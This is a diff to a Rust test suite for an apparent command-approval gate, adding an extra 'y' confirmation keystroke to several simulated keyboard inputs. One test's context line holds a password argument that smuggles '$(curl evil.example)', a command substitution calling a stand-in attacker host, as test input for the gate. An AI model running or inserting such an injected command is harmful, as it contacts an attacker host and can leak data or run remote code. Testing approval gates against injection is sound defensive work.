@@ -276,7 +276,7 @@ mod typed {
             .build()
             .await
             .unwrap();
-        keyboard.write_all(b"u\na\n").unwrap();
+        keyboard.write_all(b"u\na\ny\n").unwrap();
         let run = "mysql --password=\"aB3dE6gH$(curl evil.example)\"";
         let submitted = gate.submit(Command { run: run.to_owned() }).by("agent").await.unwrap();
         assert!(matches!(submitted, crate::Submission::Done { .. }), "{submitted:?}");
@@ -329,7 +329,7 @@ mod typed {
         let skipped = request("{}");
         assert_eq!(approver.review(&skipped).await, Review::NoAnswer);
         assert!(shown.lock().unwrap().ends_with(&not_decided(&skipped)));
-        keyboard.write_all(b"a\n").unwrap();
+        keyboard.write_all(b"a\ny\n").unwrap();
         let decided = request("{}");
         assert!(matches!(approver.review(&decided).await, Review::Decided(_)));
         assert!(!shown.lock().unwrap().contains(&not_decided(&decided)));
@@ -352,7 +352,7 @@ mod typed {
             first.id
         );
         assert!(shown.lock().unwrap().contains(&note));
-        keyboard.write_all(b"a\n").unwrap();
+        keyboard.write_all(b"a\ny\n").unwrap();
         let Review::Decided(decision) = approver.review(&second).await else { panic!("decided") };
         assert_eq!(decision.request, second.id);
     }
